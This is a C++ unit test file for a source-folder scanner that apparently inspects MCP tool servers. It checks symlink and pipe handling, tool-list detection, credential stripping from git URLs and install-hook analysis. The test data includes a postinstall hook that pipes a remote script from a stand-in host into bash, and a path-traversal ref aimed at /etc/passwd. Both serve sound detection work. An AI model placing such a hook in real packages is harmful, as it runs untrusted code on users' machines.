#include "observe/source/source.h"

#include <gtest/gtest.h>
#include <sys/stat.h>
#include <unistd.h>

#include <filesystem>
#include <fstream>

#include "base/schema_check.h"
#include "observe/source/project_facts.h"
#include "observe/source/tool_files.h"

namespace mcpjury {
namespace {

namespace fs = std::filesystem;

constexpr std::string_view kTools =
    R"({"tools":[{"name":"get_weather","description":"Gives the weather.","inputSchema":{"type":"object"}}]})";

class Folder : public testing::Test {
 protected:
  Folder() : root_(fs::temp_directory_path() / ("mcpjury-source-" + std::to_string(::getpid()))) {
    fs::create_directories(root_);
  }
  ~Folder() override { fs::remove_all(root_); }

  void write(const std::string& path, std::string_view text) {
    fs::create_directories((root_ / path).parent_path());
    std::ofstream(root_ / path) << text;
  }
  SourceTree walk(SourceLimits limits = {}) {
    auto tree = walk_source(root_.string(), limits);
    EXPECT_TRUE(tree.ok());
    return tree.ok() ? *tree : SourceTree();
  }
  Evidence observe() {
    SourceOptions options;
    options.folder = root_.string();
    options.observed_at = "2026-01-01T00:00:00Z";
    auto evidence = observe_source(options);
    EXPECT_TRUE(evidence.ok());
    return evidence.ok() ? std::move(*evidence) : Evidence();
  }

  fs::path root_;
};

std::vector<std::string> paths(const SourceTree& tree) {
  std::vector<std::string> out;
  for (const SourceFile& file : tree.files) out.push_back(file.path);
  return out;
}

TEST_F(Folder, IsWalkedInOrderWithoutWhatOthersWrote) {
  write("src/b.ts", "x");
  write("a.json", "{}");
  write("node_modules/evil/index.js", "x");
  write(".git/HEAD", "x");
  EXPECT_EQ(paths(walk()), (std::vector<std::string>{"a.json", "src/b.ts"}));
}

TEST_F(Folder, LinksPipesAndLoopsAreNotFollowed) {
  write("a.txt", "x");
  fs::create_directory_symlink(root_, root_ / "loop");
  fs::create_symlink("/etc/passwd", root_ / "passwd.json");
  ASSERT_EQ(::mkfifo((root_ / "pipe").c_str(), 0600), 0);
  const SourceTree tree = walk();
  EXPECT_EQ(paths(tree), std::vector<std::string>{"a.txt"});
  EXPECT_EQ(tree.links, 2u);
  EXPECT_EQ(tree.special, 1u);
  EXPECT_FALSE(read_source(tree, "passwd.json", 1u << 20).has_value());
  EXPECT_FALSE(read_source(tree, "pipe", 1u << 20).has_value());
}

TEST_F(Folder, LimitsAreSaid) {
  for (int i = 0; i < 10; ++i) write("f" + std::to_string(i), "x");
  SourceLimits limits;
  limits.files = 5;
  const SourceTree tree = walk(limits);
  EXPECT_EQ(tree.files.size(), 5u);
  EXPECT_TRUE(tree.truncated());
  EXPECT_FALSE(read_source(tree, "f0", 0).has_value());
}

TEST_F(Folder, ToolListByUsualNameBeforeAnyOther) {
  write("a/list.json", kTools);
  write("tools.json", kTools);
  const auto found = find_tool_file(walk(), {}, {}, "2026-01-01T00:00:00Z");
  ASSERT_TRUE(found.has_value());
  EXPECT_EQ(found->path, "tools.json");
  EXPECT_EQ(found->tier, 1);
  EXPECT_EQ(found->candidates, 2u);
}

TEST_F(Folder, SamplesAndOtherListsAreNotTaken) {
  write("tests/tools.json", kTools);
  write("docs/tools.json", kTools);
  write("examples/server.json", kTools);
  write("data.json", R"([{"name":"Bob"},{"name":"Ann"}])");
  write("menu.json", R"({"tools":[{"name":"hammer"}]})");
  write("broken.json", R"({"tools":[{"name":)");
  EXPECT_FALSE(find_tool_file(walk(), {}, {}, "2026-01-01T00:00:00Z").has_value());
}

TEST_F(Folder, InstallHooksAndWhatTheyDo) {
  write("package.json",
        "{\"name\":\"x\",\n\"scripts\":{\"postinstall\":\"curl https://x.example/a.sh | "
        "bash\",\"test\":\"curl x\"}}");
  const JsonArray hooks = install_hooks(walk(), {});
  ASSERT_EQ(hooks.size(), 1u);
  EXPECT_EQ(hooks[0].at("hook").as_string(), "postinstall");
  EXPECT_EQ(hooks[0].at("line").to_number<int>(), 2);
  EXPECT_EQ(hooks[0].at("behaviours").as_array(), (JsonArray{"fetches", "runs_fetched", "runs_shell"}));
}

TEST_F(Folder, VersionControlIsReadNotRun) {
  const std::string commit(40, 'a');
  write(".git/HEAD", "ref: refs/heads/main\n");
  write(".git/packed-refs", "# pack-refs\n" + commit + " refs/heads/main\n");
  write(".git/config", "[remote \"origin\"]\n\turl = https://bob:hunter22x@git.example/r.git\n[core]\n");
  const JsonObject vcs = vcs_facts(walk());
  EXPECT_EQ(vcs.at("commit").as_string(), commit);
  EXPECT_EQ(vcs.at("ref").as_string(), "refs/heads/main");
  EXPECT_EQ(std::string(vcs.at("url").as_string()).find("hunter22x"), std::string::npos);
  write(".git/HEAD", "ref: refs/../../../etc/passwd\n");
  EXPECT_FALSE(vcs_facts(walk()).contains("ref"));
}

TEST(Licence, IsToldByItsWords) {
  EXPECT_EQ(licence_of("MIT License\n\nPermission is hereby granted, free of\ncharge, to any person"), "MIT");
  EXPECT_EQ(licence_of("   Apache License\n   Version 2.0, January 2004"), "Apache-2.0");
  EXPECT_EQ(licence_of("All rights reserved."), "");
}

TEST_F(Folder, EvidenceFitsItsSchema) {
  write("tools.json", kTools);
  write("LICENSE", "Permission is hereby granted, free of charge, to any person");
  write("package.json", R"({"name":"x","version":"1.0.0","scripts":{"postinstall":"node x.js"}})");
  write("src/index.ts", "export {}");
  const Evidence evidence = observe();
  EXPECT_TRUE(evidence.seen(Facet::kDefinition));
  EXPECT_TRUE(evidence.seen(Facet::kSource));
  auto schema_text = std::ifstream(MCPJURY_SOURCE_DIR "/docs/schema/evidence.schema.json");
  const std::string text((std::istreambuf_iterator<char>(schema_text)), {});
  auto schema = parse_json(text, "schema", {});
  ASSERT_TRUE(schema.ok());
  for (const SchemaComplaint& complaint : check_schema(schema->value, evidence_to_json(evidence))) {
    ADD_FAILURE() << complaint.pointer << ": " << complaint.message;
  }
}

TEST_F(Folder, WithoutAToolListTheDefinitionIsNotSeen) {
  write("src/index.ts", "export {}");
  const Evidence evidence = observe();
  EXPECT_EQ(evidence.facet(Facet::kDefinition).state, FacetState::kCouldNotSee);
  EXPECT_EQ(evidence.facet(Facet::kDependencies).state, FacetState::kAbsent);
}

}  // namespace
}  // namespace mcpjury
